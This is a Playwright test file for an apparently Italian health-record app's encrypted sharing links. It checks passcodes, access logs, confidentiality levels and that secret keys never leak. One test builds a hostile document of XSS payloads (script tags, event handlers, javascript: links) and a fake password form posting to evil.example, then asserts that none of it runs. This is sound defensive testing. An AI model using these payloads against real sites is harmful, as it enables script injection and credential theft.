import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { encryptFile, newKey } from '@/lib/sections/health-links/encryption';
import { writeLink } from '@/lib/sections/health-links/payload';
import { hashOf } from '@/lib/sections/health-links/secrets';
import { newHealthLink, newRow } from '../support/rows';
import { expectAccessible } from './support/axe';
import { type Behind, behindTheApp, newcomer } from './support/newcomer';
import { openSessionOf } from './support/people';
import { expectFitting } from './support/screens';

// A patient shows a part of the record to a person without an account, by a link whose content the server cannot read.

let behind: Behind;
test.beforeAll(() => {
  behind = behindTheApp();
});
test.afterAll(() => behind.close());

/** A new patient with an allergy and a visit, on the page that creates a link. */
async function patientOn(page: Page) {
  const patient = await newcomer(behind);
  const allergy = { level: 2, tags: [], kind: 'Allergia', pathology: 'Penicillina <b>orale</b>' };
  await newRow(behind.db, 'diagnoses', patient, allergy);
  await newRow(behind.db, 'visits', patient, { level: 5, tags: [], reason: 'Controllo riservato' });
  await openSessionOf(page, patient.email);
  await page.goto('Registro/Condivisioni');
  await page.getByRole('link', { name: 'Crea un link' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Nuovo link' })).toBeVisible();
  return patient;
}

async function created(page: Page) {
  await page.getByRole('button', { name: 'Crea il link' }).click();
  await expect(page.getByRole('img', { name: 'Codice QR del link' })).toBeVisible();
}

/** The link that the button copies; grants clipboard permission first. */
async function copiedLink(page: Page, context: BrowserContext) {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copia il link' }).click();
  await expect(page.getByText('Link copiato')).toBeVisible();
  return page.evaluate(() => navigator.clipboard.readText());
}

const warning = (page: Page, hasText: string) => page.getByRole('alert').filter({ hasText });

async function give(page: Page, recipient: string, passcode?: string) {
  await page.getByLabel('Chi è Lei').fill(recipient);
  if (passcode) await page.getByLabel('Codice').fill(passcode);
  await page.getByRole('button', { name: 'Apri' }).click();
}

test('a health link opens elsewhere with its passcode, its openings are listed, and once closed it opens nothing', async ({
  page,
  context,
  browser,
}) => {
  test.slow();
  await patientOn(page);
  await expect(page.getByText('Il link mostrerà una voce.')).toBeVisible();
  await expectAccessible(page);
  await created(page);
  const passcode = (await page.getByText(/^\d{6}$/).textContent()) ?? '';
  const link = await copiedLink(page, context);
  const words = (await page.getByText(/^([a-z]+ ){7}[a-z]+$/).textContent()) ?? '';
  await expectAccessible(page);

  const stranger = await browser.newContext();
  const reader = await stranger.newPage();
  const requests: string[] = [];
  reader.on('request', (one) => requests.push(`${one.url()} ${JSON.stringify(one.headers())} ${one.postData() ?? ''}`));
  await reader.goto(link);
  // The key is removed from the URL as soon as it is read, and no action of the page puts it back.
  await expect(reader).toHaveURL(/\/condiviso$/);
  await reader.getByRole('combobox', { name: 'Lingua' }).selectOption('en');
  await expect(reader.getByLabel('Who you are')).toBeVisible();
  await reader.getByRole('combobox', { name: 'Language' }).selectOption('it');
  await expect(reader.getByLabel('Chi è Lei')).toBeVisible();
  await expect(reader).toHaveURL(/\/condiviso$/);
  await give(reader, 'Dott.ssa Neri', '000001');
  await expect(warning(reader, 'Restano 9 tentativi')).toBeVisible();
  await expectAccessible(reader);
  await give(reader, 'Dott.ssa Neri', passcode);
  await expect(reader.getByText('Penicillina <b>orale</b>')).toBeVisible();
  await expect(reader.getByText('Controllo riservato')).toHaveCount(0);
  await expect(
    reader.getByText('Il paziente decide che cosa mostrare: questa vista può essere incompleta.'),
  ).toBeVisible();
  await expectAccessible(reader);
  await reader.setViewportSize({ width: 360, height: 740 });
  await expectFitting(reader);
  // No request contains the part of the URL after `#` or goes to another host.
  const [, secret = ''] = link.split('shlink:/');
  const { key } = JSON.parse(Buffer.from(secret, 'base64url').toString()) as { key: string };
  expect(requests.filter((one) => one.includes(key) || one.includes(secret))).toEqual([]);
  expect([...new Set(requests.map((one) => new URL(one.split(' ')[0] ?? '').origin))]).toEqual([new URL(link).origin]);
  expect(requests.filter((one) => /"referer":"[^"]*condiviso/.test(one))).toEqual([]);
  await reader.getByRole('button', { name: 'Chiudi e cancella' }).click();
  await expect(reader.getByText('Penicillina')).toHaveCount(0);

  await reader.getByLabel('Le 8 parole').fill(words.toUpperCase());
  await reader.getByRole('button', { name: 'Cerca il link' }).click();
  await give(reader, 'Pronto soccorso', passcode);
  await expect(reader.getByText('Penicillina <b>orale</b>')).toBeVisible();

  await page.getByRole('link', { name: 'Torni ai Suoi link' }).click();
  const card = page.getByRole('article', { name: 'Cartella di salute' });
  await expect(card).toContainText('Aperto 2 volte · un codice sbagliato');
  await expect(card.getByRole('row')).toHaveCount(4);
  await expect(card.getByRole('row', { name: /Dott\.ssa Neri .* Codice sbagliato/ })).toBeVisible();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Chiudi il link Cartella di salute' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Chiudi il link' }).click();
  await expect(page.getByText('Il link è chiuso!')).toBeVisible();
  await expect(card).toContainText('Chiuso');

  await reader.goto('about:blank');
  await reader.goto(link);
  await give(reader, 'Dott.ssa Neri', passcode);
  await expect(warning(reader, 'Non c’è nulla a questo indirizzo')).toBeVisible();
  await stranger.close();
});

test('a link shows single items, strictly confidential ones after a proof; a living link can be shown again', async ({
  page,
  context,
}) => {
  test.slow();
  const { userId } = await patientOn(page);
  await page.getByRole('radio', { name: 'Voci singole' }).check();
  await page.getByText('Visite (1)').click();
  await page.getByRole('checkbox', { name: /Controllo riservato/ }).check();
  await page.getByLabel('Livello più alto da mostrare').selectOption('4');
  await expect(page.getByText('Una voce resta fuori perché è più riservata.')).toBeVisible();
  await page.getByRole('checkbox', { name: /strettamente riservate/ }).check();
  await expect(page.getByText('Il link mostrerà una voce.')).toBeVisible();
  await page.getByRole('checkbox', { name: 'Chiedi un codice per aprirlo' }).uncheck();
  await behind.sql`update sessions set proved_at = now() - interval '1 hour' where id_utente = ${userId}`;
  await page.getByRole('button', { name: 'Crea il link' }).click();
  const proof = page.getByRole('dialog');
  await proof.getByLabel('La Sua password', { exact: true }).fill('Demo-Salute-2026!');
  await proof.getByRole('button', { name: 'Conferma', exact: true }).click();
  await expect(page.getByRole('img', { name: 'Codice QR del link' })).toBeVisible();
  const link = await copiedLink(page, context);
  await page.goto('about:blank');
  await page.goto(link);
  await give(page, 'Studio medico');
  await expect(page.getByText('Controllo riservato')).toBeVisible();
  await expect(page.getByText('Penicillina')).toHaveCount(0);

  await page.goto('Registro/Condivisioni/Nuova');
  await page.getByRole('checkbox', { name: 'Sempre aggiornato' }).check();
  await page.getByLabel('Per quanto tempo').selectOption('8760');
  await created(page);
  await page.getByRole('link', { name: 'Torni ai Suoi link' }).click();
  await expect(page.getByText(/Sempre aggiornato: la chiave è sul server/)).toBeVisible();
  await page.getByRole('button', { name: 'Mostra di nuovo il link Cartella di salute' }).click();
  await expect(page.getByRole('dialog').getByRole('img', { name: 'Codice QR del link' })).toBeVisible();
});

/** A malicious document, to be shown on the app's page. */
const hostileDocument = () => {
  const attack = 'window.attacked = true';
  const evil = `<script>${attack}</script><img src="x" onerror="${attack}"><svg onload="${attack}"></svg>
    <iframe srcdoc="<script>parent.${attack}</script>"></iframe><style>body{display:none}</style>
    <form action="https://evil.example"><input name="password"><button>Acceda</button></form>
    <a href="javascript:${attack}" style="position:fixed;inset:0">Clicchi qui</a>
    <p onclick="${attack}" style="position:fixed">Allergia al lattice</p>${'<div>'.repeat(300)}In fondo`;
  const nested = (depth: number): object[] => (depth === 0 ? [] : [{ title: 'Dentro', section: nested(depth - 1) }]);
  const patient = {
    resourceType: 'Patient',
    gender: 'constructor',
    birthDate: '<b>',
    name: [{ text: '<i>Mario</i>' }],
  };
  const section = [
    { title: `<img src=x onerror="${attack}">`, text: { div: `<div>${evil}</div>` } },
    { title: 'Dentro', section: nested(2000) },
    { title: 'Lunga', text: { div: `<div>${'<b>a</b>'.repeat(100_000)}</div>` } },
  ];
  return { entry: [{ resource: { resourceType: 'Composition', section } }, { resource: patient }] };
};

test('T22: hostile content of a health link runs nothing, loads nothing and does not stop the page', async ({
  page,
  baseURL,
}) => {
  const [address, key] = [newKey(), newKey()];
  const jwe = await encryptFile(hostileDocument(), key);
  await newHealthLink(behind.db, await newcomer(behind), { addressHash: hashOf(address), jwe });
  const requests: string[] = [];
  page.on('request', (one) => requests.push(new URL(one.url()).origin));
  const faults: string[] = [];
  page.on('pageerror', (error) => faults.push(error.message));
  await page.goto(writeLink({ url: `${baseURL}api/shl/${address}`, key }, `${baseURL}condiviso`));
  await give(page, 'Dott.ssa Neri');
  await expect(page.getByRole('heading', { name: '<i>Mario</i>' })).toBeVisible();
  await expect(page.getByText('Allergia al lattice')).toBeVisible();
  await expect(warning(page, 'troppo grande')).toBeVisible();
  await page.getByText('Clicchi qui').click();
  await page.getByText('Allergia al lattice').click();
  const active = 'a, img, svg, iframe, form, input, button, style, script, [style], [onclick], [href], [src]';
  await expect(page.locator('article section').locator(active)).toHaveCount(0);
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  expect([...new Set(requests)]).toEqual([new URL(baseURL ?? '').origin]);
  expect(faults).toEqual([]);
});
